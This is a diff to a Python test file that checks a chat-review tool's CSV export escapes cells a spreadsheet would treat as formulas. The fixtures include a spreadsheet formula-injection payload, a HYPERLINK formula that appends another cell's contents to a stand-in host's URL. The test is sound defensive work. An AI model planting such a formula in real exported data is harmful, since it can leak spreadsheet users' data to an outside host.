@@ -17,21 +17,24 @@ from chat_review import table_export
 from chat_review.errors import OutputError
 from chat_review.reader.chat import KINDS, MESSAGE_COLUMNS, Chat, ChatMetadata
 
-TRICKY = [
-    "plain words",
-    '=HYPERLINK("http://x/?"&A1,"click")',
-    "+44 7700 900123 rang",
-    "-1 from me",
-    "@Mrs Okafor please",
-    "\tindented",
-    "\rcarriage first",
-    'she said "no", twice',
-    "line one\nline two, with a comma",
-    "ends with a return\r",
-    "Zoë Ångström 🦔",
-    "_x0041_ is not an A",
-    "",
+# (a message's text, its CSV cell): a spreadsheet would run a cell starting = + - @ tab or
+# carriage return as a formula, so that cell (and only that) gets a leading apostrophe.
+TRICKY_CELLS = [
+    ("plain words", "plain words"),
+    ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
+    ("+44 7700 900123 rang", "'+44 7700 900123 rang"),
+    ("-1 from me", "'-1 from me"),
+    ("@Mrs Okafor please", "'@Mrs Okafor please"),
+    ("\tindented", "'\tindented"),
+    ("\rcarriage first", "'\rcarriage first"),
+    ('she said "no", twice', 'she said "no", twice'),
+    ("line one\nline two, with a comma", "line one\nline two, with a comma"),
+    ("ends with a return\r", "ends with a return\r"),
+    ("Zoë Ångström 🦔", "Zoë Ångström 🦔"),
+    ("_x0041_ is not an A", "_x0041_ is not an A"),
+    ("", ""),
 ]
+TRICKY = [text for text, _ in TRICKY_CELLS]
 
 
 def make_chat(texts: list[str], *, senders: list[str | None] | None = None,
@@ -73,22 +76,7 @@ def test_csv_starts_with_a_byte_order_mark_and_ends_rows_with_crlf():
 
 def test_csv_cells_that_would_be_formulas_get_an_apostrophe_and_nothing_else_changes():
     rows = csv_rows(make_chat(TRICKY))
-    texts = [r[3] for r in rows[1:]]
-    assert texts == [
-        "plain words",
-        '\'=HYPERLINK("http://x/?"&A1,"click")',
-        "'+44 7700 900123 rang",
-        "'-1 from me",
-        "'@Mrs Okafor please",
-        "'\tindented",
-        "'\rcarriage first",
-        'she said "no", twice',
-        "line one\nline two, with a comma",
-        "ends with a return\r",
-        "Zoë Ångström 🦔",
-        "_x0041_ is not an A",
-        "",
-    ]
+    assert [r[3] for r in rows[1:]] == [cell for _, cell in TRICKY_CELLS]
 
 
 def test_csv_escapes_a_sender_that_is_a_formula():
